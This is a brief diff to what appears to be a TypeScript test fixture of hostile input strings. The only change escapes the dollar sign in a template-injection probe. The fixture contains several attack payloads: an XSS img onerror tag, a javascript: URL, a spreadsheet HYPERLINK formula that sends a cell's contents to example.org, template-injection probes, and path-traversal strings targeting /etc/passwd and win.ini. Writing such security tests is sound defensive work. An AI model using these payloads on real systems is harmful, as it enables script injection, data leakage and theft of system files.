@@ -15,7 +15,7 @@ const texts: Record<string, string> = {
   image: '"><img src=x onerror=alert(1)>',
   address: 'javascript:alert(1)//https://example.org',
   formula: '=HYPERLINK("http://example.org/?"&A1)',
-  template: '{{7*7}}${7*7}<%= 7*7 %>%s%n',
+  template: '{{7*7}}\u0024{7*7}<%= 7*7 %>%s%n',
   path: '../../../../../../etc/passwd',
   'encoded path': '..%2f..%2f..%2fetc%2fpasswd',
   'windows path': '..\\..\\windows\\win.ini',
